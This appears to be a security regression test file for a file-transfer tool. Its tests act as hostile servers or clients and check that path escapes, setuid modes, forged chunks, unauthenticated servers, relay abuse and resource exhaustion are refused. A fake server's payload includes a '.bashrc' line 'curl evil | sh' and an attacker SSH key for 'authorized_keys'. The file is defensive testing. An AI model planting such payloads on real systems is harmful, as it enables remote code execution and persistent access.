@@ -1,0 +1,569 @@
+"""accelnet xfer under attack (issue 10, items 7-12): each test plays the attacker, a hostile
+server or client speaking the wire format of src/xfer/wire.h by hand where the attack needs
+one, and checks that what it tries is refused. Hashes are computed with the system's
+libxxhash (through ctypes), the same library accelnet links."""
+
+import ctypes
+import os
+import select
+import socket
+import struct
+import subprocess
+import threading
+import time
+
+from harness import BIN, free_port, wait_until
+from test_xfer import digest, make_file, send, serve
+
+MAGIC = 0x31465841
+CHALLENGE, HELLO, OK, ERR, MANIFEST, NEED, CHUNK, ACK, FINISH, DONE, GET = range(1, 12)
+ROLE_DATA = 2
+
+_xx = ctypes.CDLL("libxxhash.so.0")
+_xx.XXH3_64bits.restype = ctypes.c_uint64
+_xx.XXH3_64bits.argtypes = [ctypes.c_char_p, ctypes.c_size_t]
+
+
+class _H128(ctypes.Structure):
+    _fields_ = [("low64", ctypes.c_uint64), ("high64", ctypes.c_uint64)]
+
+
+_xx.XXH3_128bits.restype = _H128
+_xx.XXH3_128bits.argtypes = [ctypes.c_char_p, ctypes.c_size_t]
+
+
+def xxh64(data):
+    return _xx.XXH3_64bits(data, len(data))
+
+
+def whole_hash(chunk_hashes):
+    """A file's whole hash as FINISH carries it: XXH3-128 over its chunk hashes (LE), canonical."""
+    buf = b"".join(struct.pack("<Q", h) for h in chunk_hashes)
+    h = _xx.XXH3_128bits(buf, len(buf))
+    return struct.pack(">QQ", h.high64, h.low64)
+
+
+def chunks_of(data, chunk):
+    return [data[i:i + chunk] for i in range(0, len(data), chunk)]
+
+
+def manifest(files, chunk=64 * 1024, fwd=()):
+    """files: [(path, size, mode)] -> MANIFEST meta."""
+    out = struct.pack("<III", chunk, len(files), len(fwd))
+    for hop in fwd:
+        out += struct.pack("<H", len(hop)) + hop.encode()
+    for path, size, mode in files:
+        p = path.encode()
+        out += struct.pack("<H", len(p)) + p + struct.pack("<QIQ", size, mode, 0)
+    return out
+
+
+class Wire:
+    """One xfer connection spoken by hand."""
+
+    def __init__(self, sock):
+        self.s = sock
+
+    @classmethod
+    def dial(cls, port, host="127.0.0.1", source=None, timeout=20):
+        s = socket.create_connection((host, port), timeout=timeout,
+                                     source_address=(source, 0) if source else None)
+        return cls(s)
+
+    def exact(self, n):
+        b = b""
+        while len(b) < n:
+            got = self.s.recv(n - len(b))
+            if not got:
+                raise ConnectionError("peer closed")
+            b += got
+        return b
+
+    def frame(self):
+        magic, t, _, _, mlen, dlen = struct.unpack("<IBBHII", self.exact(16))
+        assert magic == MAGIC, hex(magic)
+        return t, self.exact(mlen), dlen
+
+    def send(self, t, meta=b"", data=b"", data_len=None):
+        n = len(data) if data_len is None else data_len
+        self.s.sendall(struct.pack("<IBBHII", MAGIC, t, 0, 0, len(meta), n) + meta + data)
+
+    def hello(self, session, role=ROLE_DATA):
+        """Client handshake without a token: (type, meta) of the server's answer."""
+        self.s.sendall(struct.pack("<I", MAGIC))
+        t, _, _ = self.frame()
+        if t != CHALLENGE:
+            return t, b""
+        self.send(HELLO, struct.pack("<IB", 1, role) + session + bytes(32))
+        t, meta, _ = self.frame()
+        return t, meta
+
+    def close(self):
+        self.s.close()
+
+
+def start_serve(env, dest, args=(), name="serve", insecure=True, port=None):
+    """`xfer serve` on 127.0.0.1 with extra <args>; (process, port)."""
+    port = port or free_port()
+    argv = [BIN, "xfer", "serve", "--listen", f"127.0.0.1:{port}", "--dir", dest] + list(args)
+    if insecure:
+        argv.append("--insecure")
+    p = env.start(argv, name)
+
+    def up():
+        if p.poll() is not None:
+            raise AssertionError(f"{name} exited with {p.returncode}:\n{env.log(p)}")
+        return "listening" in env.log(p)
+    wait_until(up, f"{name} listening")
+    return p, port
+
+
+class FakeServer:
+    """A hostile `xfer serve` for `xfer get`: answers the handshake without knowing any token,
+    then offers <files> [(name, bytes, mode)] whatever the client asked for. .result holds the
+    last frame type it got back (DONE when the client accepted everything)."""
+
+    def __init__(self, files, chunk=64 * 1024, proof=b""):
+        self.files, self.chunk, self.proof = files, chunk, proof
+        self.ls = socket.socket()
+        self.ls.bind(("127.0.0.1", 0))
+        self.ls.listen(16)
+        self.port = self.ls.getsockname()[1]
+        self.result, self.asked = None, None
+        self.th = threading.Thread(target=self.run, daemon=True)
+        self.th.start()
+
+    def run(self):
+        try:
+            c, _ = self.ls.accept()
+            c.settimeout(20)
+            w = Wire(c)
+            w.exact(4)
+            w.send(CHALLENGE, os.urandom(32))
+            t, _, _ = w.frame()
+            w.send(OK, self.proof)
+            t, meta, _ = w.frame()
+            self.asked = meta
+            man = manifest([(n, len(b), m) for n, b, m in self.files], chunk=self.chunk)
+            w.send(MANIFEST, man)
+            t, need, _ = w.frame()
+            if t != NEED:
+                self.result = t
+                return
+            for i, (_, data, _) in enumerate(self.files):
+                for k, part in enumerate(chunks_of(data, self.chunk)):
+                    w.send(CHUNK, struct.pack("<IIQ", i, k, xxh64(part)), part)
+                    t, _, _ = w.frame()
+            fin = b"".join(whole_hash([xxh64(p) for p in chunks_of(d, self.chunk)]) for _, d, _ in self.files)
+            w.send(FINISH, fin)
+            self.result = w.frame()[0]
+            c.close()
+        except (OSError, ConnectionError, AssertionError, struct.error):
+            pass
+
+    def close(self):
+        self.ls.close()
+        self.th.join(10)
+
+
+def get(port, names, to, extra=()):
+    r = subprocess.run([BIN, "xfer", "get", f"127.0.0.1:{port}"] + names +
+                       ["--to", to, "--streams", "1", "--quiet"] + list(extra),
+                       capture_output=True, text=True, timeout=60)
+    return r.returncode, r.stderr
+
+
+def umask_now():
+    u = os.umask(0o022)
+    os.umask(u)
+    return u
+
+
+# item 7: xfer get trusts the server
+
+def test_get_refuses_names_not_asked_for(env):
+    """A fake server answering `get models/m1` with .bashrc and .ssh/authorized_keys (setuid
+    modes): the client refuses the manifest, writes nothing and exits non-zero."""
+    to = os.path.join(env.dir, "home")
+    os.makedirs(to)
+    fake = FakeServer([(".bashrc", b"curl evil | sh\n", 0o6777),
+                       (".ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n", 0o600)])
+    env.on_cleanup.append(fake.close)
+    rc, err = get(fake.port, ["models/m1"], to)
+    assert rc != 0 and "not asked for" in err, (rc, err)
+    assert os.listdir(to) in ([], [".accelnet-xfer"]), os.listdir(to)
+    assert fake.result != DONE
+
+
+def test_get_sanitises_modes_and_stays_beneath_to(env):
+    """A name beneath what was asked lands, but without setuid/setgid/sticky bits and with the
+    client's umask applied; a symlink inside --to does not lead a file out of it."""
+    to, outside = os.path.join(env.dir, "to"), os.path.join(env.dir, "outside")
+    os.makedirs(to)
+    os.makedirs(outside)
+    fake = FakeServer([("m1/run.sh", b"#!/bin/sh\necho hi\n", 0o6777)])
+    env.on_cleanup.append(fake.close)
+    rc, err = get(fake.port, ["models/m1"], to)
+    assert rc == 0, err
+    mode = os.stat(os.path.join(to, "m1", "run.sh")).st_mode & 0o7777
+    assert mode == 0o777 & ~umask_now(), oct(mode)
+    os.symlink(outside, os.path.join(to, "m2"))
+    fake2 = FakeServer([("m2/evil", b"x" * 100, 0o644)])
+    env.on_cleanup.append(fake2.close)
+    rc, err = get(fake2.port, ["m2"], to)
+    assert rc != 0 and os.listdir(outside) == [], (rc, err, os.listdir(outside))
+
+
+def test_get_with_token_needs_server_proof(env):
+    """With --token the client requires the server to prove it holds the token too: a fake
+    server that answers OK without the proof is refused before anything is written."""
+    to = os.path.join(env.dir, "to")
+    os.makedirs(to)
+    tok = env.write("token", "pull-token\n")
+    fake = FakeServer([("f.bin", b"forged", 0o644)])
+    env.on_cleanup.append(fake.close)
+    rc, err = get(fake.port, ["f.bin"], to, ["--token", tok])
+    assert rc != 0 and "prove" in err, (rc, err)
+    assert not os.path.exists(os.path.join(to, "f.bin"))
+    fake2 = FakeServer([("f.bin", b"forged", 0o644)], proof=os.urandom(32))
+    env.on_cleanup.append(fake2.close)
+    rc, err = get(fake2.port, ["f.bin"], to, ["--token", tok])
+    assert rc != 0 and "prove" in err, (rc, err)
+    # a real server with the token proves it: the pull goes through
+    served = os.path.join(env.dir, "served")
+    os.makedirs(served)
+    make_file(os.path.join(served, "f.bin"), 100000)
+    _, port = start_serve(env, served, ["--token", tok], insecure=False)
+    rc, err = get(port, ["f.bin"], to, ["--token", tok])
+    assert rc == 0 and digest(os.path.join(to, "f.bin")) == digest(os.path.join(served, "f.bin")), err
+
+
+def test_help_says_what_is_authenticated(env):
+    """--help says that without --tls the server is not authenticated by a certificate, and
+    that serve needs --token, --tls-ca or an explicit --insecure."""
+    r = subprocess.run([BIN, "xfer", "--help"], capture_output=True, text=True)
+    assert r.returncode == 0
+    assert "not authenticated" in r.stdout and "--insecure" in r.stdout, r.stdout
+
+
+# item 8: client-chosen mode bits
+
+def test_serve_masks_client_modes(env):
+    """A sender's 6777 does not survive: the file is 0777 & ~umask, never setuid/setgid/sticky."""
+    src, dst = make_file(os.path.join(env.dir, "f.bin"), 5000), os.path.join(env.dir, "dst")
+    os.makedirs(dst)
+    os.chmod(src, 0o6777)
+    _, port = start_serve(env, dst)
+    send([src, f"127.0.0.1:{port}"])
+    mode = os.stat(os.path.join(dst, "f.bin")).st_mode & 0o7777
+    assert mode == 0o777 & ~umask_now(), oct(mode)
+
+
+# item 9: open by default, and bcast hops
+
+def test_serve_is_not_open_by_default(env):
+    """serve without --token or --tls-ca refuses to start and says how; with --insecure it
+    starts and warns."""
+    dst = os.path.join(env.dir, "dst")
+    os.makedirs(dst)
+    p = env.start([BIN, "xfer", "serve", "--listen", f"127.0.0.1:{free_port()}", "--dir", dst], "open")
+    wait_until(lambda: p.poll() is not None or "listening" in env.log(p), "serve to exit or listen")
+    assert p.poll() is not None and p.returncode != 0, env.log(p)
+    assert "--token" in env.log(p) and "--insecure" in env.log(p), env.log(p)
+    q, _ = start_serve(env, dst, name="insecure")
+    assert "warning" in env.log(q).lower() and "--insecure" in env.log(q), env.log(q)
+
+
+def test_bcast_hops_need_relay_to(env):
+    """A client's bcast hop list no longer makes the server dial where it says: without
+    --relay-to the hop is refused (and nothing is dialed); outside the allow-list too."""
+    dst = os.path.join(env.dir, "dst")
+    os.makedirs(dst)
+    victim = socket.socket()
+    victim.bind(("127.0.0.1", 0))
+    victim.listen(4)
+    victim.setblocking(False)
+    env.on_cleanup.append(victim.close)
+    hop = f"127.0.0.1:{victim.getsockname()[1]}"
+    for args in ([], ["--relay-to", "10.0.0.0/8"]):
+        _, port = start_serve(env, dst, args, name=f"serve{len(args)}")
+        w = Wire.dial(port)
+        assert w.hello(os.urandom(16))[0] == OK
+        w.send(MANIFEST, manifest([("f.bin", 10, 0o644)], fwd=[hop]))
+        t, meta, _ = w.frame()
+        w.close()
+        assert t == ERR and b"--relay-to" in meta, (args, t, meta)
+        try:
+            victim.accept()
+            raise AssertionError(f"the server dialed {hop} for a client ({args})")
+        except BlockingIOError:
+            pass
+    # an allowed chain works
+    d2 = os.path.join(env.dir, "r2")
+    os.makedirs(d2)
+    _, p2 = start_serve(env, d2, name="hop2")
+    _, p1 = start_serve(env, dst, ["--relay-to", "127.0.0.0/8"], name="hop1")
+    src = make_file(os.path.join(env.dir, "f.bin"), 300000)
+    send([src, f"127.0.0.1:{p1}", f"127.0.0.1:{p2}"], cmd="bcast")
+    assert digest(src) == digest(os.path.join(d2, "f.bin"))
+
+
+# item 10: exhaustion
+
+def cpu_ticks(pid):
+    with open(f"/proc/{pid}/stat") as f:
+        fields = f.read().rsplit(")", 1)[1].split()
+    return int(fields[11]) + int(fields[12])  # utime + stime
+
+
+def nfds(pid):
+    return len(os.listdir(f"/proc/{pid}/fd"))
+
+
+def test_accept_pauses_at_descriptor_limit(env):
+    """At the descriptor limit the accept loop does not spin: over a second with connections
+    waiting that cannot be accepted, serve uses a small share of a CPU (a spinning loop uses
+    all of it); once descriptors free up, waiting connections are served."""
+    dst = os.path.join(env.dir, "dst")
+    os.makedirs(dst)
+    port = free_port()
+    p = env.start(["prlimit", "--nofile=40:40", BIN, "xfer", "serve", "--listen", f"127.0.0.1:{port}",
+                   "--dir", dst, "--insecure"], "serve")
+    wait_until(lambda: "listening" in env.log(p), "serve listening")
+    socks = [socket.create_connection(("127.0.0.1", port)) for _ in range(60)]
+    wait_until(lambda: nfds(p.pid) >= 39, "serve at its descriptor limit")
+    t0, c0 = time.monotonic(), cpu_ticks(p.pid)
+    time.sleep(1.0)  # a measurement over an interval: nothing to wait for
+    used = (cpu_ticks(p.pid) - c0) / os.sysconf("SC_CLK_TCK")
+    wall = time.monotonic() - t0
+    assert used < 0.5 * wall, f"serve used {used:.2f} s of CPU in {wall:.2f} s at the descriptor limit"
+    for s in socks[:30]:
+        s.close()
+    w = Wire(socks[-1])
+    w.s.settimeout(20)
+    w.s.sendall(struct.pack("<I", MAGIC))
+    assert w.frame()[0] == CHALLENGE  # a connection that waited in the backlog is served
+    for s in socks[30:]:
+        s.close()
+
+
+def test_connection_caps(env):
+    """Connections are capped per address (default 128) and in all: the ones over the cap get
+    an ERR that says why instead of a thread each."""
+    dst = os.path.join(env.dir, "dst")
+    os.makedirs(dst)
+    _, port = start_serve(env, dst)
+    conns, answers = [], []
+    for _ in range(130):
+        w = Wire.dial(port)
+        w.s.sendall(struct.pack("<I", MAGIC))
+        conns.append(w)
+    for w in conns:
+        t, meta, _ = w.frame()
+        answers.append((t, meta))
+    assert sum(t == CHALLENGE for t, _ in answers) == 128, [t for t, _ in answers]
+    assert all(t == ERR and b"too many connections" in m for t, m in answers[128:]), answers[128:]
+    for w in conns:
+        w.close()
+    # the flags: 2 per address, 3 in all
+    _, port = start_serve(env, dst, ["--max-conns", "3", "--max-conns-per-addr", "2"], name="capped")
+    got = []
+    for src in ("127.0.0.1", "127.0.0.1", "127.0.0.1", "127.0.0.2", "127.0.0.3"):
+        w = Wire.dial(port, source=src)
+        w.s.sendall(struct.pack("<I", MAGIC))
+        t, meta, _ = w.frame()
+        got.append((t, meta))
+        conns.append(w)
+    assert [t for t, _ in got] == [CHALLENGE, CHALLENGE, ERR, CHALLENGE, ERR], got
+    assert b"address" in got[2][1] and b"too many connections" in got[4][1], got
+    for w in conns:
+        w.close()
+
+
+def test_handshake_has_a_total_deadline(env):
+    """A client trickling its HELLO a byte at a time, each byte well within any per-read
+    timeout, is cut off at the handshake deadline (--handshake-ms) rather than held for ever."""
+    dst = os.path.join(env.dir, "dst")
+    os.makedirs(dst)
+    _, port = start_serve(env, dst, ["--handshake-ms", "2000"])
+    w = Wire.dial(port)
+    w.s.sendall(struct.pack("<I", MAGIC))
+    assert w.frame()[0] == CHALLENGE
+    hello = struct.pack("<IBBHII", MAGIC, HELLO, 0, 0, 53, 0) + struct.pack("<IB", 1, 2) + bytes(48)
+    closed = False
+    for b in hello[:20]:  # 10 s at this pace
+        try:
+            w.s.sendall(bytes([b]))
+        except OSError:
+            closed = True
+            break
+        r, _, _ = select.select([w.s], [], [], 0.5)  # the pace: a byte every half second
+        if r:
+            try:
+                closed = w.s.recv(1) == b""
+            except OSError:
+                closed = True
+            break
+    assert closed, "serve still holds a connection that has trickled its handshake for 10 s"
+
+
+def hold_manifest(port, files, chunk=64 * 1024):
+    w = Wire.dial(port, timeout=120)
+    assert w.hello(os.urandom(16))[0] == OK
+    w.send(MANIFEST, manifest(files, chunk=chunk))
+    t, meta, _ = w.frame()
+    return w, t, meta
+
+
+def test_manifest_limits_and_leftovers(env):
+    """A manifest of 6000 files holds no descriptor per file and leaves nothing in the state
+    directory when its transfer goes away; a refused one leaves nothing either; more files than
+    --max-files (default 10000) are refused."""
+    dst = os.path.join(env.dir, "dst")
+    state = os.path.join(dst, ".accelnet-xfer")
+    os.makedirs(dst)
+    mport = free_port()
+    p, port = start_serve(env, dst, ["--metrics", f"127.0.0.1:{mport}"])
+    base = nfds(p.pid)
+    files = [(f"d/f{i}", 1, 0o644) for i in range(6000)]
+    w, t, meta = hold_manifest(port, files)
+    assert t == NEED, (t, meta)
+    assert nfds(p.pid) < base + 50, f"{nfds(p.pid) - base} descriptors held for one manifest"
+    w.close()
+    from test_xfer import metric
+    wait_until(lambda: metric(mport, "accelnet_xfer_sessions") == 0, "the session to end")
+    assert not os.path.exists(state) or os.listdir(state) == [], len(os.listdir(state))
+    w, t, meta = hold_manifest(port, files + [("d/f1", 1, 0o644)])  # refused: a name twice
+    w.close()
+    assert t == ERR and b"twice" in meta, (t, meta)
+    assert not os.path.exists(state) or os.listdir(state) == [], len(os.listdir(state))
+    w, t, meta = hold_manifest(port, [(f"f{i}", 1, 0o644) for i in range(10001)])
+    w.close()
+    assert t == ERR and b"too many files" in meta, (t, meta)
+
+
+def test_space_reserved_across_sessions(env):
+    """Three concurrent 12 MiB transfers to a 16 MiB disk: one is accepted, the others are
+    refused up front because the first one's bytes are reserved."""
+    dst = os.path.join(env.dir, "small")
+    os.makedirs(dst)
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16m", "tmpfs", dst], check=True)
+    env.on_cleanup.append(lambda: subprocess.run(["umount", "-l", dst]))
+    _, port = start_serve(env, dst)
+    held, types = [], []
+    for i in range(3):
+        w, t, meta = hold_manifest(port, [(f"f{i}.bin", 12 << 20, 0o644)])
+        held.append(w)
+        types.append((t, meta))
+    assert [t for t, _ in types] == [NEED, ERR, ERR], types
+    assert all(b"space" in m for _, m in types[1:]), types
+    for w in held:
+        w.close()
+
+
+# item 11: integrity race
+
+def test_second_writer_cannot_forge_verified_chunk(env):
+    """A second connection of the same transfer writes into a chunk while the sender's copy
+    arrives and is verified, and finishes its forged bytes afterwards: the file renamed into
+    place is exactly what was verified, or nothing is renamed and FINISH says why."""
+    dst = os.path.join(env.dir, "dst")
+    state = os.path.join(dst, ".accelnet-xfer")
+    os.makedirs(dst)
+    _, port = start_serve(env, dst)
+    chunk = 64 * 1024
+    good = os.urandom(chunk)
+    forged = b"F" * chunk
+    session = os.urandom(16)
+    a = Wire.dial(port)
+    assert a.hello(session)[0] == OK
+    a.send(MANIFEST, manifest([("f.bin", chunk, 0o644)], chunk=chunk))
+    assert a.frame()[0] == NEED
+    b = Wire.dial(port)
+    assert b.hello(session)[0] == OK
+    b.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(forged)), forged[:chunk // 2], data_len=chunk)
+
+    def first_half_landed():
+        parts = [f for f in os.listdir(state) if f.endswith(".part")] if os.path.exists(state) else []
+        if not parts:
+            return False
+        with open(os.path.join(state, parts[0]), "rb") as f:
+            return f.read(chunk // 2) == forged[:chunk // 2]
+    wait_until(first_half_landed, "the second writer's first half in the part file")
+    a.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(good)), good)
+    t, meta, _ = a.frame()
+    assert t == ACK and meta[8] == 0, (t, meta)  # verified
+    b.s.sendall(forged[chunk // 2:])
+    assert b.frame()[0] == ACK
+    a.send(FINISH, whole_hash([xxh64(good)]))
+    t, meta, _ = a.frame()
+    final = os.path.join(dst, "f.bin")
+    if os.path.exists(final):
+        with open(final, "rb") as f:
+            assert f.read() == good, "a forged chunk was renamed into place"
+    assert t == ERR and b"overwritten" in meta, (t, meta)
+    # a write to a chunk already verified is ignored: the sender's run again lands intact
+    a.close()
+    b.close()
+    a = Wire.dial(port)
+    session = os.urandom(16)
+    assert a.hello(session)[0] == OK
+    a.send(MANIFEST, manifest([("f.bin", chunk, 0o644)], chunk=chunk))
+    assert a.frame()[0] == NEED
+    a.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(good)), good)
+    assert a.frame()[1][8] == 0
+    b = Wire.dial(port)
+    assert b.hello(session)[0] == OK
+    b.send(CHUNK, struct.pack("<IIQ", 0, 0, xxh64(forged)), forged)
+    assert b.frame()[1][8] == 1  # duplicate: kept what was verified
+    a.send(FINISH, whole_hash([xxh64(good)]))
+    assert a.frame()[0] == DONE
+    with open(final, "rb") as f:
+        assert f.read() == good
+
+
+# item 12: get of a symlinked directory, and metrics inline
+
+def test_get_symlinked_dir_stays_inside(env):
+    """`get` of a name that is a symlink to a directory outside DIR is refused without naming
+    anything found out there; a symlink inside a tree is skipped."""
+    served, outside, to = (os.path.join(env.dir, d) for d in ("served", "outside", "to"))
+    for d in (served, outside, to, os.path.join(served, "tree")):
+        os.makedirs(d)
+    make_file(os.path.join(outside, "secret-name.txt"), 100)
+    make_file(os.path.join(served, "tree", "ok.bin"), 1000)
+    os.symlink(outside, os.path.join(served, "evil"))
+    os.symlink(outside, os.path.join(served, "tree", "out"))
+    _, port = start_serve(env, served)
+    rc, err = get(port, ["evil"], to)
+    assert rc != 0 and "secret-name" not in err and "outside" in err, err
+    assert not os.path.exists(os.path.join(to, "evil"))
+    rc, err = get(port, ["tree"], to)
+    assert rc == 0, err
+    assert os.listdir(os.path.join(to, "tree")) == ["ok.bin"], os.listdir(os.path.join(to, "tree"))
+
+
+def test_idle_metrics_client_does_not_stall_accepts(env):
+    """A metrics client that connects and says nothing does not hold up new transfers: a new
+    connection gets its CHALLENGE while the idle metrics connection is still open."""
+    dst = os.path.join(env.dir, "dst")
+    os.makedirs(dst)
+    mport = free_port()
+    _, port = start_serve(env, dst, ["--metrics", f"127.0.0.1:{mport}"])
+    idle = socket.create_connection(("127.0.0.1", mport))
+    env.on_cleanup.append(idle.close)
+
+    def accepted():
+        out = subprocess.run(["ss", "-ltnH", f"sport = :{mport}"], capture_output=True, text=True).stdout
+        return out.split() and out.split()[1] == "0"  # nothing left in the accept queue
+    wait_until(accepted, "serve to accept the metrics connection")
+    w = Wire.dial(port)
+    w.s.sendall(struct.pack("<I", MAGIC))
+    assert w.frame()[0] == CHALLENGE
+    idle.setblocking(False)
+    try:
+        still_open = idle.recv(1) != b""
+    except BlockingIOError:
+        still_open = True
+    assert still_open, "the CHALLENGE came only after serve gave up on the idle metrics client"
+    w.close()
